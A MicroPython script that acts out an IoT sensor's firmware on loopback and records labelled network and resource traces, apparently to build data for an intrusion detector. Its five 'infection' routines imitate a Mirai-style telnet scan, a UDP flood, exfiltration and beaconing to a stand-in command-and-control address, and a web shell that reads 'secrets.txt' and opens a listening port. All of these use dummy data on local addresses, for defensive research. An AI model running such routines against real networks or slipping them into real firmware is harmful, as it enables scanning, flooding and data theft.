"""A small product's firmware, acted out for tests and recordings: a sensor that publishes a reading each second,
fetches its configuration over HTTP, asks the time by UDP and keeps a log on flash; and five infections that come at run
time.

Its clock is virtual: turn() is one second of the device's life and takes a millisecond. Its sockets are real; the peers
are peers.py on loopback. Run on MicroPython it records a trace:

    micropython sensor.py OUT.csv PORT WINDOWS SEED NAME [INFECTION]
"""

import os
import sys

WINDOW_MS = 10_000
TURN_MS = 1_000
INFECTIONS = ("telnet_scan", "udp_flood", "exfiltration", "beacon", "web_shell")
HOME = "127.0.0.1"  # MQTT, HTTP and time: three ports from `port` on
STRANGER = "127.66.0.6"  # command and control
CONFIG = "firmware-config.txt"
LOG = "firmware-log.txt"
FLOOD = 150  # datagrams of a turn; a slow line gets fewer


class Dice:
    """The same numbers on every runtime: a linear congruential generator, of which the high bits are used."""

    def __init__(self, seed):
        self._state = seed * 7919 + 17 & 0x3FFFFFFF

    def upto(self, limit):
        """0 .. limit - 1, limit up to 32768"""
        self._state = (self._state & 0xFFFF) * 25173 + 13849 & 0x3FFFFFFF
        return (self._state >> 2 & 0x3FFF) * limit >> 14


class Firmware:
    """socket: the module as the firmware's `import socket` gives it; port: of the first peer; beat(now_ms) is called
    once a turn, as the agent's tick would."""

    def __init__(self, socket, port, seed=1, beat=None):
        self.socket = socket
        self.port = port
        self.dice = Dice(seed)
        self.beat = beat
        self.now_ms = 0
        self.seconds = 0
        self.infection = None
        self._broker = None
        self._next_fetch = 5
        self._next_time = 8
        self._payload = bytearray(b"{'t':21.5,'h':40.0}" + b" " * 60)
        self._blob = bytearray(1024)
        self._heap = []
        with open(CONFIG, "w") as file:
            file.write("interval=1\n" * 20)

    def address(self, port, host=None):
        return self.socket.getaddrinfo(host or HOME, port, 0, self.socket.SOCK_STREAM)[0][-1]

    def turn(self):
        """One second."""
        if self.beat is not None:
            self.beat(self.now_ms)
        self.publish()
        if self.seconds >= self._next_fetch:
            self.fetch()
            self._next_fetch = self.seconds + 25 + self.dice.upto(12)
        if self.seconds >= self._next_time:
            self.ask_time()
            self._next_time = self.seconds + 55 + self.dice.upto(15)
        if self.seconds % 10 == 3:
            self.log()
        if self.infection is not None:
            getattr(self, self.infection)()
        self.seconds += 1
        late_ms = self.dice.upto(40) if self.seconds % 7 else self.dice.upto(220)
        self.now_ms = self.now_ms + TURN_MS + late_ms & 0x3FFFFFFF

    # --- what the product does ----------------------------------------------------------------------------------

    def publish(self):
        if self._broker is None or self.dice.upto(900) == 0:  # now and then the Wi-Fi goes away for a moment
            if self._broker is not None:
                self._broker.close()
            self._broker = self.socket.socket()
            self._broker.settimeout(2)
            self._broker.connect(self.address(self.port))
        size = 24 + self.dice.upto(40)
        self._heap.append(bytearray(64 + self.dice.upto(400)))  # the heap breathes, as a product's does
        if len(self._heap) > 6:
            self._heap.pop(0)
        self._broker.send(bytes((size,)) + bytes(self._payload[:size]))
        self._broker.recv(4)  # PUBACK
        if self.dice.upto(40) == 0:  # an event: a burst of readings
            for _ in range(3 + self.dice.upto(6)):
                self._broker.send(bytes((size,)) + bytes(self._payload[:size]))
                self._broker.recv(4)

    def fetch(self):
        size = 12000 if self.dice.upto(50) == 0 else 300 + self.dice.upto(900)  # now and then there is more to fetch
        port = self.port + (3 if self.dice.upto(60) == 0 else 1)  # or the server is being restarted: refused
        stream = self.socket.socket()
        stream.settimeout(2)
        try:
            stream.connect(self.address(port))
            stream.send(b"GET /config?n=%d HTTP/1.0\r\nHost: home\r\n\r\n" % size)
            while stream.recv(512):
                pass
        except OSError:
            pass
        finally:
            stream.close()
        with open(CONFIG) as file:
            file.read()
        if self.dice.upto(12) == 0:  # it changed
            with open(CONFIG, "w") as file:
                file.write("interval=1\n" * 20)

    def ask_time(self):
        stream = self.socket.socket(self.socket.AF_INET, self.socket.SOCK_DGRAM)
        stream.settimeout(1)
        try:
            stream.sendto(self._blob[:48], self.address(self.port + 2))
            stream.recv(48)
        except OSError:
            pass
        finally:
            stream.close()

    def log(self):
        with open(LOG, "w" if self.seconds % 600 < 10 else "a") as file:
            file.write("%d ok\n" % self.seconds)

    # --- infections: a turn of each -----------------------------------------------------------------------------

    def telnet_scan(self):
        """Mirai's first step: one address after the other, port 23."""
        for _ in range(12):
            stream = self.socket.socket()
            stream.settimeout(0.1)
            try:
                host = "127.%d.%d.%d" % (1 + self.dice.upto(250), self.dice.upto(250), 1 + self.dice.upto(250))
                stream.connect(self.address(23, host))
            except OSError:
                pass
            finally:
                stream.close()

    def udp_flood(self):
        """Full-size datagrams at one victim, as fast as a small device can."""
        stream = self.socket.socket(self.socket.AF_INET, self.socket.SOCK_DGRAM)
        victim = self.address(self.port + 3, STRANGER)
        for _ in range(FLOOD):
            try:
                stream.sendto(self._blob, victim)
            except OSError:  # refused: nobody listens there, and nobody minds
                pass
        stream.close()

    def exfiltration(self):
        """What the device knows goes out to a stranger, 20 KB/s."""
        stream = self.socket.socket()
        stream.settimeout(2)
        try:
            stream.connect(self.address(self.port + 4, STRANGER))
            for _ in range(20):
                stream.send(self._blob)
        finally:
            stream.close()

    def beacon(self):
        """A short hello to a new peer, every two seconds."""
        if self.seconds % 2:
            return
        stream = self.socket.socket()
        stream.settimeout(2)
        try:
            stream.connect(self.address(self.port + 4, STRANGER))
            stream.send(b"hello %d" % self.seconds)
            stream.recv(8)
        finally:
            stream.close()

    def web_shell(self):
        """Somebody is in: a new service that opens one file after the other, and changes some."""
        for i in range(4):
            name = (CONFIG, LOG, "secrets.txt", "main.py")[i]
            try:
                with open(name) as file:
                    file.read(64)
            except OSError:
                pass
        if self.seconds % 3 == 0:
            with open("shell.tmp", "w") as file:
                file.write("owned")
            os.remove("shell.tmp")
        stream = self.socket.socket()
        try:
            stream.bind(self.address(self.port + 5))
            stream.listen(1)
        except OSError:
            pass
        finally:
            stream.close()

    def close(self):
        if self._broker is not None:
            self._broker.close()
        for name in (CONFIG, LOG):
            try:
                os.remove(name)
            except OSError:
                pass


def windows(firmware, collector, count):
    """Live `count` windows -> (elapsed_ms, deltas) of each; `deltas` is the same list every time."""
    from stonechat.window import Window

    window = Window(collector.schema, WINDOW_MS)
    values = [0] * len(collector.schema)
    told = 0
    while told < count:
        collector.read(values)
        if window.push(values, firmware.now_ms):
            told += 1
            yield window.elapsed_ms, window.deltas
        for _ in range(WINDOW_MS // TURN_MS):
            firmware.turn()


def main(arguments):
    from stonechat.board import hooks

    out, port, count, seed, name = arguments[:5]
    counter = hooks.install()
    from stonechat.board.schema import COLUMNS

    collector = counter
    collector.secret = b"secret of " + name.encode()
    import socket

    firmware = Firmware(socket, int(port), int(seed), counter.beat)
    label = "benign"
    for _ in windows(firmware, collector, 60):
        pass  # its peers become known
    if len(arguments) > 5:
        label = firmware.infection = arguments[5]
        collector.hold_peers(True)
    counter.quiet = hooks.get_ident()  # writing the trace is not the work of the firmware
    with open(out, "w") as file:
        schema = collector.schema
        file.write(
            "# stonechat trace schema=%s id=%s window_ms=%d device=%s\n"
            % (schema.name, schema.id.hex(), WINDOW_MS, name)
        )
        file.write("t_s,elapsed_ms,label,%s\n" % ",".join([column[0] for column in COLUMNS]))
        counter.quiet = None
        t_s = 1_700_000_000
        for elapsed_ms, deltas in windows(firmware, collector, int(count)):
            t_s += elapsed_ms // 1000
            file.write("%d,%d,%s,%s\n" % (t_s, elapsed_ms, label, ",".join([str(delta) for delta in deltas])))
    firmware.close()


if __name__ == "__main__":
    main(sys.argv[1:])
